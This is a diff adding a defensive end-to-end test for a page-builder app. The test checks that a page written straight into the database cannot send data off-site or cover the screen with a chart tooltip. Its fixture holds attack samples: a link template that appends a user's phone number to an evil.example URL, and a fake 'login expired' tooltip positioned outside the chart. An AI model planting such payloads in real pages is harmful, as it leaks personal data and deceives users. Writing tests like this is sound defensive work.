@@ -286,3 +286,43 @@ it('[Foundation §7] a page written straight into the database cannot cover the 
   }
   await page.close();
 }, 120_000);
+
+it('[Foundation §7] a page written straight into the database sends no data to another site, covers nothing by the tip of a chart, and does not read forever', async () => {
+  const chart = {
+    type: 'chart',
+    config: {
+      title: { text: '看图', link: 'https://evil.example/chart', target: 'self' },
+      tooltip: { trigger: 'axis', appendToBody: true, position: [-400, -300], formatter: '登录已失效' },
+      xAxis: { data: ['a'] },
+      yAxis: {},
+      series: [{ type: 'bar', data: [1] }],
+    },
+  };
+  const api = { url: '/api/admin/feedback/list', data: { contact: '${UUID()}' } };
+  const link = { type: 'link', href: "${'https://evil.example/' + phone}", body: '看一看' };
+  const path = places[0] ?? '';
+  const body = { type: 'service', api, data: { phone: '13800000000' }, body: [link, chart] };
+  await force(path, JSON.stringify({ type: 'page', body }), 2_000);
+  const page = await app.loggedIn(sound);
+  const escaped: string[] = [];
+  await watch(page, escaped);
+  let reads = 0;
+  page.on('request', (request) => void (reads += request.url().endsWith(api.url) ? 1 : 0));
+  await open(page, path);
+  const screen = page.locator('.screen-box[data-active="true"]');
+  const canvas = screen.locator('canvas').first();
+  await canvas.waitFor();
+  await screen.getByText('看一看').click();
+  await page.getByText('不能打开由页面拼接出来的站外地址').waitFor();
+  await canvas.click({ position: { x: 25, y: 15 } });
+  await canvas.hover();
+  await screen.getByText('登录已失效').waitFor({ state: 'attached' });
+  const outside = await page
+    .getByText('登录已失效')
+    .evaluateAll((tips) =>
+      tips.filter((tip) => !tip.closest('.screen-box')).map(({ outerHTML }) => outerHTML),
+    );
+  expect({ outside, escaped }).toEqual({ outside: [], escaped: [] });
+  expect(reads).toBe(1);
+  await page.close();
+}, 60_000);
